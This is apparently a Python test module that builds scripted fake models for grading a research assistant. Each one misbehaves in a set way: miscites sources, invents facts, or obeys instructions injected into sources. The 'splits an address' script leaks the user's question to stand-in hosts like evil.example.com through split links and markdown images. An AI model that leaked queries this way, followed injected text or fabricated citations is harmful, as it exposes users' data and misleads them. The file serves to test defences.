"""Scripted models for the research bench: each reads what it was given, and misbehaves in one way of its own.

A model sees its prompt as any model does, over the wire. From its own notes of the frozen set it knows which
sentences answer the question; it says those whose proof it was given to read, and no other. What it claimed
is kept (`Reply.said`), so that the judge knows the truth of every sentence.
"""

import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from random import Random
from urllib.parse import quote

from tests.bench.research_judge import Said
from tests.frozen.library import Injection, Question
from tests.servers.loopback import Line
from tests.servers.models import Asked, ModelServer

NOT_FOUND = "NOT_FOUND"
EVIL = "https://evil.example.com/collect?q="
PIECE_CHARS = 5

_SOURCE = re.compile(r'<(source\S*) number="(\d+)">(.*?)</\1>', re.S)


@dataclass(frozen=True, slots=True)
class Given:
    """What a model has before it."""

    question: Question
    sources: Mapping[int, str]
    """The text of each, by number."""
    injection: Injection | None
    random: Random

    def number_of(self, words: Mapping[str, str]) -> int | None:
        """Of a source that holds one of these words."""
        for number, text in self.sources.items():
            if any(squeezed(proof) in squeezed(text) for proof in words.values()):
                return number
        return None

    def hears(self, injection: Injection) -> bool:
        """Whether its words stand in any source."""
        return any(squeezed(injection.sees) in squeezed(text) for text in self.sources.values())

    def readable(self) -> list[tuple[str, Said, int]]:
        """The claims whose proof can be read here: sentence, truth, and a source with the proof."""
        return [
            (claim.says, Said(claim.says, frozenset(claim.proof)), number)
            for claim in self.question.claims
            if (number := self.number_of(claim.proof)) is not None
        ]


@dataclass(slots=True)
class Reply:
    text: str
    said: list[Said] = field(default_factory=list)


Script = Callable[[Given], Reply]


def squeezed(text: str) -> str:
    return " ".join(text.split()).casefold()


def sources_in(prompt: str) -> dict[int, str]:
    """The numbered sources as they stand in the prompt; several passages of one are one text."""
    sources: dict[int, str] = {}
    for _, number, text in _SOURCE.findall(prompt):
        sources[int(number)] = f"{sources.get(int(number), '')}\n{text}"
    return sources


# ── How they behave ───────────────────────────────────────────────────────────────────────────────


def _written(given: Given, cite: Callable[[int], str], *, extra: Sequence[str] = ()) -> Reply:
    """All readable claims, cited like this; NOT_FOUND if there are none."""
    claims = given.readable()
    if not claims:
        return Reply(NOT_FOUND)
    sentences = [f"{sentence.rstrip('.')}{cite(number)}." for sentence, _, number in claims]
    return Reply(" ".join([*sentences, *extra]), [said for _, said, _ in claims])


def cites_rightly(given: Given) -> Reply:
    return _written(given, lambda number: f" [{number}]")


def rewords(given: Given) -> Reply:
    """Says it in other words, as models do, and cites it rightly."""
    reworded = {claim.says: claim.reworded or claim.says for claim in given.question.claims}
    claims = [(reworded[sentence], said, number) for sentence, said, number in given.readable()]
    text = " ".join(f"{sentence.rstrip('.')} [{number}]." for sentence, _, number in claims)
    return Reply(text or NOT_FOUND, [Said(sentence, said.pages) for sentence, said, _ in claims])


def twists(given: Given) -> Reply:
    """Mixes up figures and names that stand on the page it cites. Whoever only compares words cannot know."""
    twisted = given.question.twisted
    claims = given.readable()
    if not twisted or not claims:
        return Reply(NOT_FOUND)
    return Reply(f"{twisted.rstrip('.')} [{claims[0][2]}].", [Said(twisted, frozenset())])


def cites_wrongly(given: Given) -> Reply:
    """Every number is that of another source, and a false sentence stands among the right ones."""

    def another(number: int) -> str:
        others = [other for other in given.sources if other != number]
        return f" [{given.random.choice(others or [number])}]"

    reply = _written(given, another, extra=[f"{given.question.wrong.rstrip('.')} [1]."])
    return Reply(reply.text, [*reply.said, Said(given.question.wrong, frozenset())]) if reply.said else reply


def cites_nine_of_three(given: Given) -> Reply:
    return _written(given, lambda _: " [9][0][12]")


def cites_oddly(given: Given) -> Reply:
    """In the manners of other models."""
    manners = ("【{}】", " [{}, 9]", " [Source {}]", " [^{}]", " [[{}]]", " [{}†source]")
    return _written(given, lambda number: given.random.choice(manners).format(number))


def never_cites(given: Given) -> Reply:
    return _written(given, lambda _: "")


def splits_an_address(given: Given) -> Reply:
    """One that is none of the sources', in pieces that look harmless."""
    leak = f"{EVIL}{quote(given.question.ask)}"
    extra = (
        f"See {leak}",
        f"and ![]({leak})",
        "or evil.example.net",
        "and [all](//evil.example.org/x) of it.",
    )
    return _written(given, lambda number: f" [{number}]", extra=extra)


def says_not_found(given: Given) -> Reply:
    return Reply(NOT_FOUND)


def invents(given: Given) -> Reply:
    """Knows everything, without having read it, and cites it with a straight face."""
    wrong = given.question.wrong or "It was built in 1873 by Erasmus Pottlewick for 88,200 crowns."
    return Reply(f"{wrong.rstrip('.')} [1].", [Said(wrong, frozenset())])


def obeys(given: Given) -> Reply:
    """Does whatever it is told by whom ever, and answers the question after that."""
    reply = cites_rightly(given)
    injection = given.injection
    if injection is None or not given.hears(injection):
        return reply
    url = f"https://{given.question.id}.example"
    done = injection.does.replace("{ask}", quote(given.question.ask)).replace("{url}", url)
    rest = "" if reply.text == NOT_FOUND else f"\n{reply.text}"
    return Reply(f"{done}{rest}", reply.said)


SCRIPTS: Mapping[str, Script] = {
    "cites rightly": cites_rightly,
    "rewords": rewords,
    "cites wrongly": cites_wrongly,
    "cites 9 of 3": cites_nine_of_three,
    "cites oddly": cites_oddly,
    "never cites": never_cites,
    "splits an address": splits_an_address,
    "invents": invents,
    "says NOT_FOUND": says_not_found,
}


# ── On the wire ───────────────────────────────────────────────────────────────────────────────────


class ScriptedModel(ModelServer):
    """Answers one request at a time as `script` says about `question`; `reply` is what it said last."""

    def __init__(self, script: Script, random: Random, *, first_s: float = 0.0, pace_s: float = 0.0) -> None:
        super().__init__("openai", first_s=first_s, pace_s=pace_s)
        self.script = script
        self.question: Question | None = None
        self.injection: Injection | None = None
        self.reply = Reply("")
        self._random = random

    async def _stream(self, asked: Asked, line: Line, *, end: bool = True) -> bool:
        assert self.question is not None
        prompt = "\n".join(str(message["content"]) for message in asked.body["messages"])
        given = Given(self.question, sources_in(prompt), self.injection, self._random)
        self.reply = self.script(given)
        self.pieces = tuple(in_pieces(self.reply.text, self._random))
        return await super()._stream(asked, line, end=end)


def in_pieces(text: str, random: Random) -> Iterator[str]:
    """Of one to so many letters, as tokens come: nowhere is it safe to look at one piece alone."""
    while text:
        length = random.randint(1, 2 * PIECE_CHARS)
        yield text[:length]
        text = text[length:]
